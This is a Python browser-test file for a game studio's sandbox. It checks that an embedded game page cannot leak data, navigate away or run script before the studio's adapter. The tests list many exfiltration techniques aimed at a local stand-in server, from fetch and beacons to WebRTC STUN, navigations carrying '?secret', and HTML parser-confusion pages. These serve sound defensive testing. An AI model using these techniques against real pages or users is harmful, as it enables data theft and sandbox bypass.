"""A game can tell nobody what it sees: a listener stands for the stranger's server, in Chromium."""

import socket
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest

from moveset.studio.games import insert_adapter, open_game

SEEN = b"<script>window.seen = typeof RTCPeerConnection</script>"
"""What a game's first script finds of WebRTC."""

DODGES = {
    "plain.html": b"<!doctype html><html><head>" + SEEN,
    "comment.html": b"<!-- <head> -->" + SEEN + b"<head></head>",
    "attribute.html": b"<html title='a>b<head>'>" + SEEN,
    "quoted.html": b'<!doctype html><html data-x="><head>">' + SEEN + b"<head></head>",
    "short.html": b"<!--><!doctype html>" + SEEN + b"-->",
    "dashes.html": b"<!-- --!><!doctype html>" + SEEN + b"-->",
    "open.html": b"<!doctype html" + SEEN,
    "late.html": b" " * 70_000 + b"<!doctype html>" + SEEN,
    "utf16.html": b"\xff\xfe" + ("<!doctype html>" + SEEN.decode()).encode("utf-16-le"),
    "escapes.html": b"<!-- \x1b$B --><!doctype html>\x1b(B<meta charset=iso-2022-jp>" + SEEN,
    "LOUD.HTM": b"<!DOCTYPE HTML PUBLIC '>'><HTML><HEAD>" + SEEN,
}
"""Pages that try to run a script before ours."""

NO_PAGES = {
    "image.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>window.seen = 1</script></svg>",
    "page.xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'><script>seen = 1</script></html>",
    "data.xml": b"<a xmlns='http://www.w3.org/1999/xhtml'><script>window.seen = 1</script></a>",
}

TALK = """async (there) => {
  const { http, ws, stun, host } = there;
  const link = (rel, href) => {
    document.head.append(Object.assign(document.createElement("link"), { rel, href }));
  };
  const style = `@import url(${http}import); @font-face { font-family: f; src: url(${http}font) }
    body { font-family: f; background: url(${http}css) }`;
  const rtc = `const one = new RTCPeerConnection({ iceServers: [{ urls: "${stun}" }] });
    one.createDataChannel("x"); one.setLocalDescription();`;
  const click = (about) => Object.assign(document.createElement("a"), about).click();
  const work = (code) => new Worker(URL.createObjectURL(new Blob([code])));
  const rules = JSON.stringify({ prefetch: [{ source: "list", urls: [`${http}rules`] }] });
  const deeds = {
    fetch: () => fetch(`${http}fetch`, { mode: "no-cors", keepalive: true }),
    xhr: () => { const one = new XMLHttpRequest(); one.open("GET", `${http}xhr`); one.send(); },
    beacon: () => navigator.sendBeacon(`${http}beacon`, "x"),
    socket: () => new WebSocket(ws),
    events: () => new EventSource(`${http}events`),
    transport: () => new WebTransport(http.replace("http:", "https:")),
    image: () => { new Image().src = `${http}image`; },
    credit: () => new Image().setAttribute("attributionsrc", `${http}credit`),
    media: () => { new Audio(`${http}audio`).play(); },
    script: () => document.head.append(Object.assign(
      document.createElement("script"), { src: `${http}script` })),
    module: () => import(`${http}module`),
    speculation: () => document.head.append(Object.assign(
      document.createElement("script"), { type: "speculationrules", textContent: rules })),
    style: () => document.head.append(Object.assign(
      document.createElement("style"), { textContent: style })),
    face: () => new FontFace("g", `url(${http}face)`).load(),
    links: () => ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "prerender",
      "stylesheet", "icon", "manifest"].forEach((rel) => link(rel, `${http}${rel}`)),
    form: () => {
      const one = Object.assign(document.createElement("form"), { action: `${http}form` });
      document.body.append(one);
      one.submit();
    },
    popup: () => open(`${http}popup`),
    blank: () => click({ href: `${http}blank`, target: "_blank" }),
    ping: () => click({ href: "#here", ping: `${http}ping` }),
    top: () => { top.location = `${http}top`; },
    topClick: () => click({ href: `${http}topclick`, target: "_top" }),
    frame: () => document.body.append(Object.assign(
      document.createElement("iframe"), { src: `${http}frame` })),
    object: () => document.body.append(Object.assign(
      document.createElement("object"), { data: `${http}object` })),
    worker: () => work(`fetch("${http}worker", { mode: "no-cors" })`),
    importing: () => work(`importScripts("${http}importing")`),
    shared: () => new SharedWorker(`${http}shared`),
    service: () => navigator.serviceWorker.register(`${http}service`),
    sheet: () => CSS.paintWorklet.addModule(`${http}worklet`),
    payment: () => new PaymentRequest(
      [{ supportedMethods: `${http}pay` }], { total: { label: "", amount: { currency: "EUR",
      value: "1" } } }).canMakePayment(),
    rtc: () => new Function(rtc)(),
    child: () => {
      const one = document.body.appendChild(document.createElement("iframe"));
      new one.contentWindow.RTCPeerConnection();
    },
    srcdoc: () => document.body.append(Object.assign(
      document.createElement("iframe"), { srcdoc: `<script>${rtc}</` + `script>` })),
    markup: () => document.body.insertAdjacentHTML(
      "beforeend", `<b><iframe srcdoc='<script>${rtc}</` + `script>'></iframe></b>`),
    code: () => document.body.append(Object.assign(
      document.createElement("iframe"), { src: `javascript:${rtc}` })),
  };
  for (const deed of Object.values(deeds)) {
    try {
      Promise.resolve(deed()).catch(() => {});
    } catch { /* refused at once */ }
  }
  await new Promise((done) => setTimeout(done, 1500));
  return Object.keys(deeds).length;
}"""
"""Every way to send something that a page has, but to go elsewhere itself."""

LEAVE = {
    "location": "(http) => { location = `${http}location?secret` }",
    "replace": "(http) => location.replace(`${http}replace?secret`)",
    "refresh": """(http) => document.head.append(Object.assign(document.createElement("meta"),
      { httpEquiv: "refresh", content: `0; url=${http}refresh?secret` }))""",
    "link": """(http) => Object.assign(document.createElement("a"),
      { href: `${http}link?secret` }).click()""",
    "download": """(http) => Object.assign(document.createElement("a"),
      { href: `${http}download?secret`, download: "x" }).click()""",
    "navigate": "(http) => { navigation.navigate(`${http}navigate?secret`) }",
    "studio": "() => { location = '/' }",
    "state": "() => { location = '/api/state' }",
    "data": "(http) => { location = `data:text/html,<img src=${http}data>` }",
    "blob": """(http) => { location = URL.createObjectURL(
      new Blob([`<img src=${http}blob>`], { type: "text/html" })) }""",
    "code": "(http) => { location = `javascript:'<img src=${http}code>'` }",
}
"""Every way to go elsewhere."""


class Stranger:
    """A server elsewhere: it hears connections, requests and datagrams."""

    def __init__(self):
        heard = self.heard = []

        class Handler(BaseHTTPRequestHandler):
            def handle_one_request(self):
                heard.append(self.rfile.readline())

            def log_message(self, *_):
                """Keep the test's output clean."""

        class Server(ThreadingHTTPServer):
            def get_request(self):
                heard.append("connection")
                return super().get_request()

        self.server = Server(("127.0.0.1", 0), Handler)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.setblocking(False)
        host = f"127.0.0.1:{self.server.server_port}"
        self.there = {
            "host": host,
            "http": f"http://{host}/",
            "ws": f"ws://{host}/",
            "stun": f"stun:127.0.0.1:{self.udp.getsockname()[1]}",
        }
        Thread(target=self.server.serve_forever).start()

    def datagrams(self):
        found = []
        while True:
            try:
                found.append(self.udp.recv(2048))
            except BlockingIOError:
                return found

    def close(self):
        self.server.shutdown()
        self.server.server_close()
        self.udp.close()


@pytest.fixture
def stranger():
    one = Stranger()
    yield one
    one.close()


@pytest.fixture
def game(tmp_path):
    folder = tmp_path / "game"
    folder.mkdir()
    (folder / "index.html").write_text("<!doctype html><title>here</title><body>")
    for name, content in {**DODGES, **NO_PAGES}.items():
        (folder / name).write_bytes(content)
    return open_game(folder)


@pytest.fixture
def framed_game(browser, address, game):
    """Open a page of the game beside the studio's page, as Play does; return its frame."""
    browser.goto(f"{address}#/try")

    def opened(name=""):
        frame = browser.evaluate_handle(
            """(src) => new Promise((done) => {
              const frame = document.createElement("iframe");
              Object.assign(frame, { src, sandbox: "allow-scripts", onload: () => done(frame) });
              document.body.append(frame);
            })""",
            f"{game.prefix}play/{name}",
        )
        return frame.as_element().content_frame()

    return opened


def test_a_game_beside_the_camera_cannot_send_anything(browser, framed_game, stranger):
    assert framed_game().evaluate(TALK, stranger.there) > 30
    assert stranger.heard == []
    assert stranger.datagrams() == []
    assert browser.evaluate("1 + 1") == 2, "the studio's page goes on"


@pytest.mark.slow
def test_a_game_cannot_take_what_it_knows_elsewhere(browser, framed_game, stranger):
    from playwright.sync_api import Error

    frames = {way: framed_game() for way in LEAVE}
    for way, frame in frames.items():
        with suppress(Error):  # it leaves before it answers
            frame.evaluate(LEAVE[way], stranger.there["http"])
    browser.wait_for_timeout(1500)
    assert stranger.heard == []
    for way in ("studio", "state"):
        assert "moveset-token" not in frames[way].content(), way
        assert "recordings" not in frames[way].content(), way
    assert browser.url.startswith("http://127.0.0.1")


def test_no_page_of_a_game_runs_before_our_script(framed_game):
    found = {name: framed_game(name).evaluate("() => window.seen") for name in DODGES}
    assert set(found.values()) <= {"undefined", None}, found
    assert found["plain.html"] == found["utf16.html"] == found["LOUD.HTM"] == "undefined"


def test_other_files_of_a_game_run_no_scripts(framed_game):
    from playwright.sync_api import Error

    for name in NO_PAGES:
        with suppress(Error):  # not even ours
            assert framed_game(name).evaluate("() => window.seen") is None, name


def test_a_games_page_is_not_opened_by_itself(page, game):
    answer = page.get(f"{game.prefix}play/", headers={"sec-fetch-dest": "document"})
    assert answer.status_code == 403


@pytest.mark.parametrize(
    "page",
    [
        *(b"<head " * 2**18, b"<!--" * 2**18, b"<!" * 2**19, b"<!doctype" * 2**17, b" " * 2**20),
        *(b"<html" + b" a" * 2**19, b"<!-->" * 2**18, b"<?" * 2**19, b"<!---->" * 2**17),
    ],
    ids=lambda page: page[:12].decode(),
)
def test_a_page_that_looks_like_many_heads_is_served_at_once(page):
    for _ in range(5):  # a search that tries each of them would take minutes
        made = insert_adapter(page, "/games/x/")
    assert len(made) == len(page) + len(b'<script src="/games/x/game_adapter.js"></script>')
